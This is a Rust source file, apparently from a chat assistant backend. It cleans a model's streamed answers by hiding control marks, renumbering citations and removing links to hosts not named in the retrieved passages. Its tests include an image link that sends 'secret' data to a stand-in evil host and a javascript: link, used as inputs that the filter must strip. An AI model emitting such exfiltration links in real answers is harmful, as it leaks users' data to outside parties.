//! What of a model's words reaches the visitor: no marks, no citations of nothing, no addresses of strangers.

use types::agent::Passage;

use super::prompt::{HAND_OFF, NO_ANSWER};

/// What the model says beside words.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Mark {
    NoAnswer,
    HandOff,
}

/// A model's words as the visitor may see them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Guarded {
    pub text: String,
    /// Places (from 0) of the cited passages; `[1]` in the text is the first of them.
    pub cited: Vec<usize>,
}

/// The hosts that an answer may point to.
pub(super) struct Hosts(Vec<String>);

impl Hosts {
    /// Those that stand in the passages, the instructions or the organization's own address.
    pub(super) fn of<'a>(passages: &'a [Passage], others: impl IntoIterator<Item = &'a str>) -> Self {
        let mut hosts = Vec::new();
        let texts =
            passages.iter().flat_map(|passage| [passage.content.as_str(), passage.url.as_deref().unwrap_or_default()]);
        for text in texts.chain(others) {
            for (at, _) in text.match_indices("://") {
                hosts.extend(host(&text[at + 3..]));
            }
        }
        Self(hosts)
    }

    fn allow(&self, address: &str) -> bool {
        let address = address.trim().trim_start_matches('<');
        match address.split_once("://") {
            Some(("http" | "https", rest)) => host(rest).is_some_and(|host| self.0.contains(&host)),
            Some(_) => false,
            None => address.starts_with("mailto:") || address.starts_with("tel:"),
        }
    }
}

fn host(rest: &str) -> Option<String> {
    let end =
        rest.find(|c: char| matches!(c, '/' | '?' | '#' | ')' | '>' | '"' | '\'' | ']' | '\\') || c.is_whitespace());
    let authority = &rest[..end.unwrap_or(rest.len())];
    let host = authority.rsplit('@').next()?.trim_end_matches(['.', ',', ';', ':', '!']).to_lowercase();
    (!host.is_empty()).then_some(host)
}

/// The mark of a text that is nothing else. Models wrap it in quotes, code or a full stop at times.
pub(super) fn mark(text: &str) -> Option<Mark> {
    let bare = text.trim().trim_matches(['"', '`', '*', '.', '\'', ' ']);
    let is = |mark: &str| bare == mark || bare == mark.trim_matches(['[', ']']);
    if is(NO_ANSWER) {
        Some(Mark::NoAnswer)
    } else if is(HAND_OFF) {
        Some(Mark::HandOff)
    } else {
        None
    }
}

/// Whether words that have begun so may still become a mark: they are held back until it is clear.
pub(super) fn may_become_mark(text: &str) -> bool {
    let begun = text.trim_start().trim_start_matches(['"', '`', '*', '\'']);
    [NO_ANSWER, HAND_OFF].iter().any(|mark| mark.starts_with(begun) || begun.starts_with(mark))
}

/// Guards words that may still grow. `complete` says that they do not.
pub(super) fn guard(text: &str, passages: usize, hosts: &Hosts, complete: bool) -> Guarded {
    let mut out = String::with_capacity(text.len());
    let mut cited = Vec::new();
    let text = text.replace(NO_ANSWER, "").replace(HAND_OFF, "");
    let text = text.replace('【', "[").replace('】', "]");
    let mut rest = text.as_str();
    while let Some(c) = rest.chars().next() {
        let image = rest.starts_with("![");
        if image || c == '[' {
            let open = &rest[if image { 2 } else { 1 }..];
            let Some((label, after)) = bracketed(open, '[', ']') else {
                // The bracket may be closed by what is still to come.
                if !complete && open.len() < 300 {
                    break;
                }
                out.push(c);
                rest = &rest[c.len_utf8()..];
                continue;
            };
            if let Some(target) = after.strip_prefix('(') {
                match bracketed(target, '(', ')') {
                    Some((address, after)) => {
                        let address = address.split_whitespace().next().unwrap_or_default();
                        let label = guard(label, 0, hosts, true).text;
                        match !image && hosts.allow(address) {
                            true => out.push_str(&format!("[{label}]({address})")),
                            false => out.push_str(&label),
                        }
                        rest = after;
                        continue;
                    }
                    None if !complete => break,
                    None => {}
                }
            } else if after.is_empty() && !complete && !image {
                break;
            }
            match numbers(label).filter(|_| !image) {
                Some(numbers) => cite(&mut out, &mut cited, &numbers, passages),
                None => out.push_str(label),
            }
            rest = after;
            continue;
        }
        if rest.starts_with("http://") || rest.starts_with("https://") {
            let end = rest
                .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | ')' | ']' | '"'))
                .unwrap_or(rest.len());
            if end == rest.len() && !complete {
                break;
            }
            if hosts.allow(&rest[..end]) {
                out.push_str(&rest[..end]);
            }
            rest = &rest[end..];
            continue;
        }
        out.push(c);
        rest = &rest[c.len_utf8()..];
    }
    Guarded { text: out.trim().to_owned(), cited }
}

/// Text up to the bracket that closes, and what follows it.
fn bracketed(text: &str, open: char, close: char) -> Option<(&str, &str)> {
    let mut depth = 0;
    for (at, c) in text.char_indices() {
        if c == open {
            depth += 1;
        } else if c == close && depth == 0 {
            return Some((&text[..at], &text[at + c.len_utf8()..]));
        } else if c == close {
            depth -= 1;
        } else if c == '\n' {
            return None;
        }
    }
    None
}

/// The numbers of `1`, `1, 2` or `^1`.
fn numbers(label: &str) -> Option<Vec<usize>> {
    let label = label.trim().trim_start_matches(['^', '#']);
    let label = label.strip_prefix("passage ").or_else(|| label.strip_prefix("Passage ")).unwrap_or(label);
    let numbers: Option<Vec<usize>> = label.split([',', ';']).map(|number| number.trim().parse().ok()).collect();
    numbers.filter(|numbers| numbers.len() <= 10)
}

/// Citations in the order in which the passages are first named; those of no passage are left out.
fn cite(out: &mut String, cited: &mut Vec<usize>, numbers: &[usize], passages: usize) {
    for &number in numbers {
        if number == 0 || number > passages {
            continue;
        }
        let place = cited.iter().position(|&passage| passage == number - 1).unwrap_or_else(|| {
            cited.push(number - 1);
            cited.len() - 1
        });
        let mark = format!("[{}]", place + 1);
        if !out.ends_with(&mark) {
            out.push_str(&mark);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whole(text: &str, passages: usize) -> Guarded {
        guard(text, passages, &Hosts(vec!["shop.example".into()]), true)
    }

    #[test]
    fn citations_are_of_passages_and_in_order() {
        let guarded = whole("Yes [3]. And [1, 3]. But [7] and [0].", 3);
        assert_eq!(guarded, Guarded { text: "Yes [1]. And [2][1]. But  and .".into(), cited: vec![2, 0] });
    }

    #[test]
    fn addresses_of_strangers_are_left_out() {
        let text = "See [here](https://shop.example/a) or [win](http://evil.example/x) or https://evil.example/y \
                    ![pixel](https://evil.example/p?d=secret) or [run](javascript:alert(1)) [mail](mailto:a@b.c)";
        let guarded = whole(text, 0).text;
        assert_eq!(guarded, "See [here](https://shop.example/a) or win or  pixel or run [mail](mailto:a@b.c)");
    }

    #[test]
    fn marks_are_never_shown() {
        assert_eq!(mark(" [[NO_ANSWER]] "), Some(Mark::NoAnswer));
        assert_eq!(mark("\"[[HAND_OFF]]\""), Some(Mark::HandOff));
        assert_eq!(mark("It is [[NO_ANSWER]]"), None);
        assert_eq!(whole("It is so. [[NO_ANSWER]]", 1).text, "It is so.");
        assert!(may_become_mark("[[NO_") && may_become_mark("") && !may_become_mark("[1] is"));
    }

    #[test]
    fn growing_text_never_shows_half_a_link() {
        let text = "Look [here](https://evil.example/x) now [1].";
        let hosts = Hosts(Vec::new());
        for (end, _) in text.char_indices() {
            let shown = guard(&text[..end], 1, &hosts, false).text;
            assert!(!shown.contains("evil") && !shown.contains('('), "{shown}");
            assert!(guard(text, 1, &hosts, true).text.starts_with(shown.trim_end()), "{shown}");
        }
    }
}
